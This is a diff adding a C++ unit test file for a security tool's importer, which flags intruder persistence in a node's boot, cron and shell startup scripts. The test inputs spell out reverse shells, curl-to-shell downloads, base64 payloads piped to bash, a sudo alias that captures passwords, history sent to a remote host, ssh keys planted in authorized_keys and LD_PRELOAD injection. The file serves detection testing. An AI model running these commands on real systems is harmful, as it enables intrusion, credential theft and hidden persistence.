@@ -1,0 +1,706 @@
+// The shell scripts a node runs on its own (rc.local, profile files, users'
+// .bashrc, cron's period folders, update-motd.d) as NodeScript resources, and
+// the commands in them that look like an intruder keeping a foothold.
+
+#include "core/NodeLogTestUtil.h"
+
+#include "import/LogLayout.h"
+#include "import/importers/NodeScriptImporter.h"
+#include "import/importers/ShellScript.h"
+#include "util/Hash.h"
+
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+
+using namespace ab;
+using namespace ab::test;
+
+namespace {
+
+/// A fixture of tests/data/node-script/: "<node's tree>/<path on the node>".
+QByteArray fixture(const QString& path)
+{
+    return readFile(dataPath(QStringLiteral("node-script/") + path));
+}
+
+/// Imports a fixture as the file at its path on node worker-1 (the tree's name
+/// taken off: "ubuntu/etc/profile" is "worker-1/etc/profile").
+MemoryImport runFixture(const QString& path)
+{
+    NodeScriptImporter importer;
+    SourceHints hints;
+    hints.node = QStringLiteral("worker-1");
+    return importBytes(importer, fixture(path),
+                       QStringLiteral("worker-1.tar.gz/worker-1/") + path.section(QLatin1Char('/'), 1), {}, hints);
+}
+
+MemoryImport runBytes(const QByteArray& bytes, const QString& path = QStringLiteral("worker-1/etc/profile.d/x.sh"))
+{
+    NodeScriptImporter importer;
+    return importBytes(importer, bytes, path, {});
+}
+
+/// "line rule,rule" of each suspicious command the resource keeps.
+QStringList suspicious(const MemoryImport& m)
+{
+    QStringList out;
+    for (const QJsonValue& v : bodyOf(m).value(QStringLiteral("suspicious")).toArray()) {
+        const QJsonObject o = v.toObject();
+        QStringList rules;
+        for (const QJsonValue& r : o.value(QStringLiteral("rules")).toArray())
+            rules << r.toString();
+        out << QString::number(o.value(QStringLiteral("line")).toInt()) + QLatin1Char(' ') +
+                   rules.join(QLatin1Char(','));
+    }
+    return out;
+}
+
+/// The fixtures of one of the trees under tests/data/node-script/, as paths under it.
+QStringList treeFiles(const QString& tree)
+{
+    const QDir root(dataPath(QStringLiteral("node-script")));
+    QStringList out;
+    for (const QString& f : fixturePaths(QStringLiteral("node-script"))) {
+        const QString rel = root.relativeFilePath(f);
+        if (rel.startsWith(tree + QLatin1Char('/')))
+            out << rel;
+    }
+    return out;
+}
+
+/// "rule@line" of the findings of `script` at `path`, without the "node.script." prefix.
+QStringList rulesOf(const QByteArray& script, const QString& path)
+{
+    QStringList out;
+    for (const QString& f : findingLines(runBytes(script, path)))
+        out << f.mid(int(qstrlen("node.script.")));
+    return out;
+}
+
+} // namespace
+
+class TestNodeScriptImporter : public QObject
+{
+    Q_OBJECT
+private slots:
+    void packagedScriptsHaveNoFindings_data();
+    void packagedScriptsHaveNoFindings();
+    void whatTheResourceHolds();
+    void intruders_data();
+    void intruders();
+    void findingsSayWhereAndWhen();
+    void detections_data();
+    void detections();
+    void howScriptsAreRead();
+    void hereDocuments();
+    void secretsAreMasked();
+    void emptyAndUnusable();
+    void largeInputStaysBounded();
+    void badBytes();
+    void cancels();
+    void nodeFromThePath();
+    void sniff_data();
+    void sniff();
+    void fuzz();
+};
+
+void TestNodeScriptImporter::packagedScriptsHaveNoFindings_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QString>("runs");
+    QTest::addColumn<QString>("runsAs");
+    const QHash<QString, QPair<QString, QString>> expected{
+        {QStringLiteral("ubuntu/etc/cron.daily/apt-compat"), {QStringLiteral("cron daily"), QStringLiteral("root")}},
+        {QStringLiteral("ubuntu/etc/cron.daily/logrotate"), {QStringLiteral("cron daily"), QStringLiteral("root")}},
+        {QStringLiteral("ubuntu/etc/cron.daily/dpkg"), {QStringLiteral("cron daily"), QStringLiteral("root")}},
+        {QStringLiteral("ubuntu/etc/cron.daily/man-db"), {QStringLiteral("cron daily"), QStringLiteral("root")}},
+        {QStringLiteral("ubuntu/etc/update-motd.d/00-header"),
+         {QStringLiteral("ssh login (motd)"), QStringLiteral("root")}},
+        {QStringLiteral("ubuntu/etc/update-motd.d/10-help-text"),
+         {QStringLiteral("ssh login (motd)"), QStringLiteral("root")}},
+        {QStringLiteral("ubuntu/etc/update-motd.d/50-motd-news"),
+         {QStringLiteral("ssh login (motd)"), QStringLiteral("root")}},
+        {QStringLiteral("ubuntu/etc/profile"), {QStringLiteral("login shell"), QStringLiteral("every user")}},
+        {QStringLiteral("ubuntu/etc/profile.d/bash_completion.sh"),
+         {QStringLiteral("login shell"), QStringLiteral("every user")}},
+        {QStringLiteral("ubuntu/etc/bash.bashrc"), {QStringLiteral("interactive shell"), QStringLiteral("every user")}},
+        {QStringLiteral("ubuntu/home/ubuntu/.bashrc"), {QStringLiteral("interactive shell"), QStringLiteral("ubuntu")}},
+    };
+    const QStringList files = treeFiles(QStringLiteral("ubuntu"));
+    QCOMPARE(files.size(), expected.size());
+    for (const QString& f : files) {
+        QVERIFY2(expected.contains(f), qPrintable(f));
+        QTest::newRow(qPrintable(f)) << f << expected[f].first << expected[f].second;
+    }
+}
+
+void TestNodeScriptImporter::packagedScriptsHaveNoFindings()
+{
+    // Debian's and Ubuntu's own scripts: curl fetching news into a cache,
+    // `eval $(apt-config …)`, a here-document printed with cat, aliases of ls and
+    // "sudo " are no finding.
+    QFETCH(QString, path);
+    QFETCH(QString, runs);
+    QFETCH(QString, runsAs);
+    const MemoryImport m = runFixture(path);
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
+    QCOMPARE(issueCodes(m.issues), QStringList());
+    QCOMPARE(m.out.resources.size(), size_t(1));
+    const Resource& r = m.out.resources.front();
+    QCOMPARE(r.kind, QStringLiteral("NodeScript"));
+    QCOMPARE(r.namespace_, QStringLiteral("worker-1"));
+    QCOMPARE(r.name, path.section(QLatin1Char('/'), 1));
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("path")).toString(), QLatin1Char('/') + path.section(QLatin1Char('/'), 1));
+    QCOMPARE(body.value(QStringLiteral("runs")).toString(), runs);
+    QCOMPARE(body.value(QStringLiteral("runsAs")).toString(), runsAs);
+    QVERIFY(!body.contains(QStringLiteral("suspicious")));
+    QCOMPARE(body.value(QStringLiteral("lines")).toInt(), fixture(path).count('\n'));
+    QVERIFY(body.value(QStringLiteral("commands")).toInt() > 0);
+}
+
+void TestNodeScriptImporter::whatTheResourceHolds()
+{
+    const MemoryImport rc = runFixture(QStringLiteral("intruded/etc/rc.local"));
+    QVERIFY(rc.result.hasValue());
+    const QJsonObject body = bodyOf(rc);
+    QCOMPARE(body.keys(),
+             (QStringList{QStringLiteral("commands"), QStringLiteral("file"), QStringLiteral("interpreter"),
+                          QStringLiteral("lines"), QStringLiteral("node"), QStringLiteral("path"),
+                          QStringLiteral("runs"), QStringLiteral("runsAs"), QStringLiteral("suspicious")}));
+    QCOMPARE(body.value(QStringLiteral("node")).toString(), QStringLiteral("worker-1"));
+    QCOMPARE(body.value(QStringLiteral("file")).toString(), QStringLiteral("rc.local"));
+    QCOMPARE(body.value(QStringLiteral("path")).toString(), QStringLiteral("/etc/rc.local"));
+    QCOMPARE(body.value(QStringLiteral("runs")).toString(), QStringLiteral("boot"));
+    QCOMPARE(body.value(QStringLiteral("runsAs")).toString(), QStringLiteral("root"));
+    QCOMPARE(body.value(QStringLiteral("interpreter")).toString(), QStringLiteral("/bin/sh"));
+    QCOMPARE(body.value(QStringLiteral("lines")).toInt(), 15);
+    // echo, true, sleep, nohup, exit: the '(…) &' a command of its own.
+    QCOMPARE(body.value(QStringLiteral("commands")).toInt(), 5);
+    QCOMPARE(suspicious(rc), QStringList{QStringLiteral("13 node.script.reverse-shell")});
+    QCOMPARE(rc.out.resources.front().line, 10);
+
+    // A user's file: whose, and run as that user.
+    const MemoryImport bashrc = runFixture(QStringLiteral("intruded/home/deploy/.bashrc"));
+    QCOMPARE(bashrc.out.resources.front().name, QStringLiteral("home/deploy/.bashrc"));
+    QCOMPARE(bodyOf(bashrc).value(QStringLiteral("owner")).toString(), QStringLiteral("deploy"));
+    QCOMPARE(bodyOf(bashrc).value(QStringLiteral("runsAs")).toString(), QStringLiteral("deploy"));
+    QVERIFY(!bodyOf(bashrc).contains(QStringLiteral("interpreter")));
+    // Each of its users' .bashrc is a resource of its own.
+    const MemoryImport other = runBytes("alias ls='ls -F'\n", QStringLiteral("worker-1/root/.bashrc"));
+    QCOMPARE(other.out.resources.front().name, QStringLiteral("root/.bashrc"));
+    QCOMPARE(bodyOf(other).value(QStringLiteral("owner")).toString(), QStringLiteral("root"));
+}
+
+void TestNodeScriptImporter::intruders_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QStringList>("findings"); // "rule@line"
+    QTest::newRow("rc.local reverse shell")
+        << "intruded/etc/rc.local" << QStringList{QStringLiteral("node.script.reverse-shell@13")};
+    QTest::newRow("cron.hourly miner from /tmp")
+        << "intruded/etc/cron.hourly/sysstat-sync"
+        << QStringList{QStringLiteral("node.script.download-exec@8"), QStringLiteral("node.script.download-exec@9"),
+                       QStringLiteral("node.script.runs-from-temp@9")};
+    QTest::newRow("a .bashrc capturing sudo's password")
+        << "intruded/home/deploy/.bashrc" << QStringList{QStringLiteral("node.script.credential-alias@15")};
+    QTest::newRow("update-motd.d adding a key from an address")
+        << "intruded/etc/update-motd.d/60-landscape-info" << QStringList{QStringLiteral("node.script.adds-ssh-key@11")};
+    QTest::newRow("profile.d base64 payload")
+        << "intruded/etc/profile.d/locale-fix.sh" << QStringList{QStringLiteral("node.script.encoded-payload@7")};
+    QCOMPARE(treeFiles(QStringLiteral("intruded")).size(), 5);
+}
+
+void TestNodeScriptImporter::intruders()
+{
+    QFETCH(QString, path);
+    QFETCH(QStringList, findings);
+    const MemoryImport m = runFixture(path);
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    QCOMPARE(findingLines(m), findings);
+    // The resource keeps each suspicious command once, with all its rules.
+    QStringList lines;
+    for (const QString& f : findings)
+        lines << f.section(QLatin1Char('@'), 1);
+    lines.removeDuplicates();
+    QCOMPARE(suspicious(m).size(), lines.size());
+    for (const Finding& f : m.out.findings) {
+        QCOMPARE(f.tool, QStringLiteral("auditbench"));
+        QCOMPARE(f.resourceKind, QStringLiteral("NodeScript"));
+        QCOMPARE(f.resourceNamespace, QStringLiteral("worker-1"));
+        QCOMPARE(f.resourceName, path.section(QLatin1Char('/'), 1));
+        QVERIFY(!f.controls.isEmpty());
+        QVERIFY(f.title.endsWith(QLatin1String(" on node worker-1")));
+    }
+}
+
+void TestNodeScriptImporter::findingsSayWhereAndWhen()
+{
+    const MemoryImport rc = runFixture(QStringLiteral("intruded/etc/rc.local"));
+    const Finding* shell = findingFor(rc, QStringLiteral("node.script.reverse-shell"), QStringLiteral("etc/rc.local"));
+    QVERIFY(shell);
+    QCOMPARE(shell->severity, Severity::Critical);
+    QCOMPARE(shell->title, QStringLiteral("the script /etc/rc.local opens a reverse shell on node worker-1"));
+    QVERIFY2(shell->detail.contains(QLatin1String("Line 13 of /etc/rc.local, run at boot as root: (sleep 30; nohup "
+                                                  "/bin/bash -c 'while true; do bash -i >& /dev/tcp/203.0.113.45/")),
+             qPrintable(shell->detail));
+    QCOMPARE(shell->resource, QStringLiteral("NodeScript worker-1/etc/rc.local"));
+
+    const MemoryImport cron = runFixture(QStringLiteral("intruded/etc/cron.hourly/sysstat-sync"));
+    const Finding* dl =
+        findingFor(cron, QStringLiteral("node.script.download-exec"), QStringLiteral("etc/cron.hourly/sysstat-sync"));
+    QCOMPARE(dl->severity, Severity::High);
+    QVERIFY(dl->detail.contains(QLatin1String("run by cron every hour as root: ")));
+    QCOMPARE(
+        findingFor(cron, QStringLiteral("node.script.runs-from-temp"), QStringLiteral("etc/cron.hourly/sysstat-sync"))
+            ->severity,
+        Severity::Medium);
+
+    const MemoryImport bashrc = runFixture(QStringLiteral("intruded/home/deploy/.bashrc"));
+    const Finding* alias =
+        findingFor(bashrc, QStringLiteral("node.script.credential-alias"), QStringLiteral("home/deploy/.bashrc"));
+    QCOMPARE(alias->severity, Severity::High);
+    QVERIFY(alias->detail.contains(QLatin1String("run in the interactive shells of deploy: alias sudo='read -r -s")));
+
+    const MemoryImport motd = runFixture(QStringLiteral("intruded/etc/update-motd.d/60-landscape-info"));
+    const Finding* key = findingFor(motd, QStringLiteral("node.script.adds-ssh-key"),
+                                    QStringLiteral("etc/update-motd.d/60-landscape-info"));
+    QCOMPARE(key->severity, Severity::High);
+    QCOMPARE(key->title, QStringLiteral("the script /etc/update-motd.d/60-landscape-info writes an ssh key into "
+                                        "/root/.ssh/authorized_keys on node worker-1"));
+    QVERIFY(key->detail.contains(QLatin1String("run as root at every ssh login: curl -fsS http://203.0.113.9/")));
+
+    const MemoryImport profile = runFixture(QStringLiteral("intruded/etc/profile.d/locale-fix.sh"));
+    const Finding* payload = findingFor(profile, QStringLiteral("node.script.encoded-payload"),
+                                        QStringLiteral("etc/profile.d/locale-fix.sh"));
+    QCOMPARE(payload->severity, Severity::High);
+    QVERIFY(payload->detail.contains(QLatin1String("run in every user's login shell: echo 'Y3Vyb")));
+
+    // Without a place: the file's name, and no word on when it runs.
+    const MemoryImport loose = runBytes("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", QStringLiteral("notes.sh"));
+    QCOMPARE(loose.out.resources.front().name, QStringLiteral("notes.sh"));
+    QCOMPARE(loose.out.findings.front().title,
+             QStringLiteral("the script notes.sh opens a reverse shell on this node"));
+    QVERIFY(loose.out.findings.front().detail.endsWith(
+        QLatin1String("Line 1 of notes.sh: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")));
+    QVERIFY(!bodyOf(loose).contains(QStringLiteral("runs")));
+}
+
+void TestNodeScriptImporter::detections_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QByteArray>("script");
+    QTest::addColumn<QStringList>("findings"); // "rule@line", node.script. left off
+    const QString rc = QStringLiteral("worker-1/etc/rc.local");
+    const QString daily = QStringLiteral("worker-1/etc/cron.daily/x");
+    const QString profileD = QStringLiteral("worker-1/etc/profile.d/x.sh");
+    const QString bashrc = QStringLiteral("worker-1/etc/bash.bashrc");
+    const QString users = QStringLiteral("worker-1/home/alice/.bashrc");
+    const QStringList none;
+
+    // The shared judgement of a command, and across lines.
+    QTest::newRow("curl piped to sh") << rc << QByteArray("curl -fsSL http://203.0.113.7/i.sh | sh\n")
+                                      << QStringList{"download-exec@1"};
+    QTest::newRow("wget, chmod and run on three lines")
+        << daily
+        << QByteArray("wget -q http://198.51.100.4/agent -O /usr/local/bin/agent\nchmod 755 /usr/local/bin/agent\n"
+                      "/usr/local/bin/agent --daemon\n")
+        << QStringList{"download-exec@2", "download-exec@3"};
+    QTest::newRow("curl -O, then sh of it") << daily
+                                            << QByteArray("cd /opt\ncurl -sO https://203.0.113.7/setup.sh?v=2\n"
+                                                          "sh setup.sh\n")
+                                            << QStringList{"download-exec@3"};
+    QTest::newRow("downloaded, not run") << daily
+                                         << QByteArray("curl -so /var/cache/x/news https://news.example/x\n"
+                                                       "chmod 644 /var/cache/x/news\ncat /var/cache/x/news\n")
+                                         << none;
+    QTest::newRow("chmod +x of something else")
+        << daily << QByteArray("curl -so /var/cache/x/news https://news.example/x\nchmod +x /usr/local/bin/tool\n")
+        << none;
+    QTest::newRow("reverse shell") << rc << QByteArray("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n")
+                                   << QStringList{"reverse-shell@1"};
+    QTest::newRow("nc -e on a continued line")
+        << rc << QByteArray("nc 203.0.113.7 4444 \\\n    -e /bin/sh\n") << QStringList{"reverse-shell@1"};
+    QTest::newRow("cd /tmp, then ./x on a later line")
+        << daily << QByteArray("cd /tmp\n./.x\n") << QStringList{"runs-from-temp@2"};
+    QTest::newRow("cd elsewhere in between") << daily << QByteArray("cd /tmp\ncd /opt/app\n./run\n") << none;
+    QTest::newRow("base64 into bash") << profileD << QByteArray("echo ZWNobyBoaQ== | base64 -d | bash\n")
+                                      << QStringList{"encoded-payload@1"};
+    QTest::newRow("eval of base64") << profileD << QByteArray("eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"\n")
+                                    << QStringList{"encoded-payload@1"};
+    QTest::newRow("hidden folder") << rc << QByteArray("/home/ubuntu/.cache/.sys/update &\n")
+                                   << QStringList{"runs-from-temp@1"};
+    QTest::newRow("//tmp") << rc << QByteArray("//tmp/x\n") << QStringList{"runs-from-temp@1"};
+    QTest::newRow("/var//tmp/.x") << rc << QByteArray("/var//tmp/.x/run\n") << QStringList{"runs-from-temp@1"};
+    QTest::newRow("/usr/../tmp") << rc << QByteArray("/usr/../tmp/run\n") << QStringList{"runs-from-temp@1"};
+    QTest::newRow("&& separated") << rc << QByteArray("test -d /tmp/.x && /tmp/.x/run\n")
+                                  << QStringList{"runs-from-temp@1"};
+    QTest::newRow("a function's body") << rc
+                                       << QByteArray("update() {\n  curl -s http://203.0.113.7/u | bash\n}\nupdate\n")
+                                       << QStringList{"download-exec@2"};
+    QTest::newRow("a comment") << rc << QByteArray("echo hi # curl -s http://203.0.113.7/a | sh\n") << none;
+    QTest::newRow("a '#' in quotes") << rc << QByteArray("echo \"# no comment\"; curl -s http://203.0.113.7/a | sh\n")
+                                     << QStringList{"download-exec@1"};
+    QTest::newRow("a quote across lines")
+        << rc << QByteArray("echo 'first line\nsecond line'\n/tmp/x\n") << QStringList{"runs-from-temp@3"};
+
+    // Aliases of the programs passwords are typed into.
+    QTest::newRow("sudo reads the password")
+        << users << QByteArray("alias sudo='read -s -p \"Password: \" p; echo \"$p\" >> ~/.x; sudo'\n")
+        << QStringList{"credential-alias@1"};
+    QTest::newRow("su to a copy in a home")
+        << users << QByteArray("alias su='/home/alice/.local/bin/su'\n") << QStringList{"credential-alias@1"};
+    QTest::newRow("passwd to echo") << bashrc << QByteArray("alias passwd='echo changed'\n")
+                                    << QStringList{"credential-alias@1"};
+    QTest::newRow("ssh and another alias")
+        << users << QByteArray("alias ll='ls -l' ssh='/tmp/.s/ssh'\n") << QStringList{"credential-alias@1"};
+    QTest::newRow("ssh with options") << users << QByteArray("alias ssh='ssh -o ServerAliveInterval=60'\n") << none;
+    QTest::newRow("sudo, so aliases work after it") << users << QByteArray("alias sudo='sudo '\n") << none;
+    QTest::newRow("command sudo -E") << users << QByteArray("alias sudo=\"command sudo -E\"\n") << none;
+    QTest::newRow("ssh by its path") << users << QByteArray("alias ssh='/usr/bin/ssh -A'\n") << none;
+    QTest::newRow("other aliases") << users << QByteArray("alias ls='ls --color=auto'\nalias k=kubectl\n") << none;
+
+    // Preloaded libraries.
+    QTest::newRow("export LD_PRELOAD") << profileD << QByteArray("export LD_PRELOAD=/usr/local/lib/libsys.so\n")
+                                       << QStringList{"ld-preload@1"};
+    QTest::newRow("ld.so.preload written")
+        << rc << QByteArray("echo /usr/lib/x86_64-linux-gnu/libgcc_s.so.4 > /etc/ld.so.preload\n")
+        << QStringList{"ld-preload@1"};
+    QTest::newRow("ld.so.preload by tee")
+        << rc << QByteArray("echo /lib/l.so | tee -a /etc/ld.so.preload\n") << QStringList{"ld-preload@1"};
+    QTest::newRow("LD_PRELOAD for one program")
+        << rc << QByteArray("LD_PRELOAD=/usr/lib/libjemalloc.so.2 /usr/bin/redis-server &\n")
+        << QStringList{"ld-preload@1"};
+    QTest::newRow("LD_PRELOAD emptied") << profileD << QByteArray("export LD_PRELOAD=\nunset LD_PRELOAD\n") << none;
+
+    // What runs before every prompt or command.
+    QTest::newRow("PROMPT_COMMAND sends the history")
+        << bashrc << QByteArray("export PROMPT_COMMAND='history 1 | curl -s -d @- http://203.0.113.7/h >/dev/null'\n")
+        << QStringList{"prompt-command@1"};
+    QTest::newRow("PROMPT_COMMAND from /dev/shm") << users << QByteArray("PROMPT_COMMAND+=';/dev/shm/.p'\n")
+                                                  << QStringList{"prompt-command@1", "runs-from-temp@1"};
+    QTest::newRow("PROMPT_COMMAND sets the title")
+        << bashrc
+        << QByteArray("PROMPT_COMMAND='printf \"\\033]0;%s@%s:%s\\007\" \"${USER}\" \"${HOSTNAME%%.*}\" "
+                      "\"${PWD/#$HOME/\\~}\"'\n")
+        << none;
+    QTest::newRow("PROMPT_COMMAND logs to syslog")
+        << bashrc << QByteArray("PROMPT_COMMAND='history -a >(logger -t \"bash[$$]\" -p local6.info)'\n") << none;
+    QTest::newRow("DEBUG trap to nc") << bashrc
+                                      << QByteArray("trap 'echo \"$BASH_COMMAND\" | nc 203.0.113.7 9000' DEBUG\n")
+                                      << QStringList{"debug-trap@1"};
+    QTest::newRow("DEBUG trap, options first")
+        << users << QByteArray("trap -- '/var/tmp/.k \"$BASH_COMMAND\"' RETURN DEBUG\n") << QStringList{"debug-trap@1"};
+    QTest::newRow("DEBUG trap sets the title")
+        << users << QByteArray("trap 'echo -ne \"\\033]0;${BASH_COMMAND}\\007\"' DEBUG\n") << none;
+    QTest::newRow("EXIT trap with curl") << users << QByteArray("trap 'curl -s https://hc.example/bye' EXIT\n") << none;
+
+    // An ssh key written by a script.
+    QTest::newRow("key by tee") << rc
+                                << QByteArray("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB4kx9 ops' | tee -a "
+                                              "/root/.ssh/authorized_keys\n")
+                                << QStringList{"adds-ssh-key@1"};
+    QTest::newRow("key from wget") << users << QByteArray("wget -qO- http://203.0.113.9/k >> ~/.ssh/authorized_keys\n")
+                                   << QStringList{"adds-ssh-key@1"};
+    QTest::newRow("key file copied") << daily << QByteArray("cp /var/backups/.k /home/ubuntu/.ssh/authorized_keys2\n")
+                                     << QStringList{"adds-ssh-key@1"};
+    QTest::newRow("keys only read") << daily
+                                    << QByteArray("chmod 600 /root/.ssh/authorized_keys\n"
+                                                  "wc -l < /root/.ssh/authorized_keys > /var/log/keys.count\n")
+                                    << none;
+
+    // History turned off for every user; a user's own choice is theirs.
+    QTest::newRow("HISTFILE to /dev/null")
+        << profileD << QByteArray("export HISTFILE=/dev/null\n") << QStringList{"history-off@1"};
+    QTest::newRow("unset HISTFILE") << bashrc << QByteArray("unset HISTFILE\n") << QStringList{"history-off@1"};
+    QTest::newRow("HISTSIZE=0") << QStringLiteral("worker-1/etc/zsh/zshrc") << QByteArray("HISTSIZE=0\n")
+                                << QStringList{"history-off@1"};
+    QTest::newRow("set +o history") << QStringLiteral("worker-1/etc/profile") << QByteArray("set +o history\n")
+                                    << QStringList{"history-off@1"};
+    QTest::newRow("a user's own .bashrc")
+        << users << QByteArray("unset HISTFILE\nexport HISTFILE=/dev/null\nHISTSIZE=0\n") << none;
+    QTest::newRow("in rc.local") << rc << QByteArray("unset HISTFILE\n") << none;
+    QTest::newRow("a history kept") << profileD << QByteArray("HISTSIZE=5000\nHISTFILESIZE=10000\nset -o history\n")
+                                    << none;
+}
+
+void TestNodeScriptImporter::detections()
+{
+    QFETCH(QString, path);
+    QFETCH(QByteArray, script);
+    QFETCH(QStringList, findings);
+    QCOMPARE(rulesOf(script, path), findings);
+}
+
+void TestNodeScriptImporter::howScriptsAreRead()
+{
+    // Continued lines, quotes across lines, comments, ';' and '&&': one
+    // command each, judged on the line it starts on.
+    const QByteArray script = "#!/bin/bash\n"
+                              "# a comment: curl -s http://203.0.113.7/x | sh\n"
+                              "PS1='# '; export PS1\n"
+                              "echo \"one\n"
+                              "two\" && \\\n"
+                              "  curl -s http://203.0.113.7/x \\\n"
+                              "  | sh\n"
+                              "\n"
+                              "msg='it''s'  # a comment after a command\n";
+    const MemoryImport m = runBytes(script, QStringLiteral("worker-1/etc/rc.local"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(findingLines(m), QStringList{QStringLiteral("node.script.download-exec@4")});
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("interpreter")).toString(), QStringLiteral("/bin/bash"));
+    QCOMPARE(body.value(QStringLiteral("lines")).toInt(), 9);
+    QCOMPARE(body.value(QStringLiteral("commands")).toInt(), 6);
+    const QJsonObject kept = body.value(QStringLiteral("suspicious")).toArray().at(0).toObject();
+    QCOMPARE(kept.value(QStringLiteral("command")).toString(),
+             QStringLiteral("echo \"one\ntwo\" &&   curl -s http://203.0.113.7/x   | sh"));
+
+    // The commands of a line, their words as the shell takes them.
+    const std::vector<shellscript::Command> c =
+        shellscript::commandsOf("if [ -x /a ]; then alias sudo='x; y' && echo \"a\"'b' 2>/dev/null | tee -a f; fi");
+    QCOMPARE(c.size(), size_t(4));
+    QCOMPARE(c[0].words, (std::vector<std::string>{"[", "-x", "/a", "]"}));
+    QCOMPARE(c[1].words, (std::vector<std::string>{"alias", "sudo=x; y"}));
+    QCOMPARE(c[2].words, (std::vector<std::string>{"echo", "ab", "2>/dev/null"}));
+    QCOMPARE(c[3].opener, '|');
+    std::vector<std::string> written;
+    QCOMPARE(shellscript::withoutRedirections({"cat", ">>", "/root/x", "2>&1", "<<EOF", "<(ls)"}, &written),
+             (std::vector<std::string>{"cat", "<(ls)"}));
+    QCOMPARE(written, std::vector<std::string>{"/root/x"});
+}
+
+void TestNodeScriptImporter::hereDocuments()
+{
+    const QString rc = QStringLiteral("worker-1/etc/rc.local");
+    // Fed to a shell, a here-document's lines are judged as the shell runs them.
+    const MemoryImport bash = runBytes("bash <<EOF\necho start\ncurl -s http://203.0.113.7/x | sh\nEOF\n", rc);
+    QCOMPARE(findingLines(bash), QStringList{QStringLiteral("node.script.download-exec@3")});
+    QVERIFY(bash.out.findings.front().detail.contains(
+        QLatin1String("Line 3 of /etc/rc.local (in the here-document a shell runs from line 1), run at boot")));
+    QCOMPARE(rulesOf("cat <<'END' | sh\n/tmp/.x/run\nEND\n", rc), QStringList{QStringLiteral("runs-from-temp@2")});
+    QCOMPARE(rulesOf("\tsudo bash -s <<-END\n\t\tcurl -s http://x.example/y | sh\n\tEND\necho ok\n", rc),
+             QStringList{QStringLiteral("download-exec@2")});
+
+    // Written to a file, printed, or fed to another interpreter: text, not run.
+    const QByteArray written = "cat > /etc/motd <<EOF\ncurl -s http://203.0.113.7/x | sh\n"
+                               "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nEOF\n/tmp/after\n";
+    const MemoryImport w = runBytes(written, rc);
+    QCOMPARE(findingLines(w), QStringList{QStringLiteral("node.script.runs-from-temp@5")});
+    QCOMPARE(bodyOf(w).value(QStringLiteral("hereDocumentLines")).toInt(), 2);
+    QCOMPARE(rulesOf("python3 - <<'PY'\nimport os; os.system('/tmp/x')\nPY\n", rc), QStringList());
+    // Two on one line, read in turn; the second run by a shell.
+    QCOMPARE(rulesOf("cat <<A; bash <<B\n/tmp/a\nA\n/tmp/b\nB\n/tmp/c\n", rc),
+             (QStringList{QStringLiteral("runs-from-temp@4"), QStringLiteral("runs-from-temp@6")}));
+    // A here-string and a shift are none; a delimiter never seen reads to the end.
+    QCOMPARE(rulesOf("x=$((1 << 2))\nbash <<< 'echo hi'\n/tmp/y\n", rc),
+             QStringList{QStringLiteral("runs-from-temp@3")});
+    const MemoryImport open = runBytes("cat <<EOF\n/tmp/never-run\n", rc);
+    QVERIFY(open.result.hasValue());
+    QVERIFY(open.out.findings.empty());
+}
+
+void TestNodeScriptImporter::secretsAreMasked()
+{
+    const QByteArray script = "export PGPASSWORD=Pg-Backup-S3cret\n"
+                              "curl -u admin:Hunter2Pass http://203.0.113.7/a | sh\n"
+                              "mysql -uroot --password=Sup3rSecret -e 'select 1'; /tmp/x\n";
+    const MemoryImport m = runBytes(script, QStringLiteral("worker-1/etc/cron.daily/backup"));
+    QCOMPARE(findingLines(m), (QStringList{QStringLiteral("node.script.download-exec@2"),
+                                           QStringLiteral("node.script.runs-from-temp@3")}));
+    const QString body = m.out.resources.front().body;
+    for (const char* secret : {"Hunter2Pass", "Sup3rSecret", "Pg-Backup-S3cret"}) {
+        QVERIFY2(!body.contains(QLatin1String(secret)), qPrintable(body));
+        for (const Finding& f : m.out.findings)
+            QVERIFY2(!f.detail.contains(QLatin1String(secret)), qPrintable(f.detail));
+    }
+    QVERIFY(body.contains(QLatin1String("[redacted sha256:")));
+}
+
+void TestNodeScriptImporter::emptyAndUnusable()
+{
+    const MemoryImport comments = runBytes("#!/bin/sh\n# nothing to do\n\n: # nor here\n" + QByteArray("exit 0\n"),
+                                           QStringLiteral("worker-1/etc/rc.local"));
+    QVERIFY(comments.result.hasValue());
+    QCOMPARE(bodyOf(comments).value(QStringLiteral("commands")).toInt(), 2);
+    const MemoryImport empty = runBytes("#!/bin/sh\n# placeholder\n\n");
+    QVERIFY(empty.result.hasValue());
+    QVERIFY(hasIssue(empty.issues, QStringLiteral("node-script.empty")));
+    QVERIFY(empty.out.resources.empty());
+    const MemoryImport nothing = runBytes(QByteArray());
+    QVERIFY(nothing.result.hasValue());
+    QVERIFY(nothing.out.resources.empty());
+    QVERIFY(nothing.out.findings.empty());
+}
+
+void TestNodeScriptImporter::largeInputStaysBounded()
+{
+    // A million lines, each a program from /tmp: every one judged, the first
+    // 10,000 kept, a hundred findings and an issue counting the rest.
+    QByteArray bytes = "#!/bin/sh\n";
+    bytes.reserve(12 * 1000000);
+    for (int i = 0; i < 1000000; ++i)
+        bytes += "/tmp/j " + QByteArray::number(i % 10) + "\n";
+    const MemoryImport m = runBytes(bytes, QStringLiteral("worker-1/etc/cron.hourly/many"));
+    QVERIFY(keptBounded(m, QStringLiteral("node-script"), "suspicious", 10000, "suspiciousNotKept", 990000,
+                        QStringLiteral("999900 more commands match node.script.runs-from-temp")));
+    QCOMPARE(bodyOf(m).value(QStringLiteral("lines")).toInt(), 1000001);
+    QCOMPARE(bodyOf(m).value(QStringLiteral("commands")).toInt(), 1000000);
+
+    // 100,000 lines continued with '\', and a quote never closed: read up to the
+    // bound, then afresh.
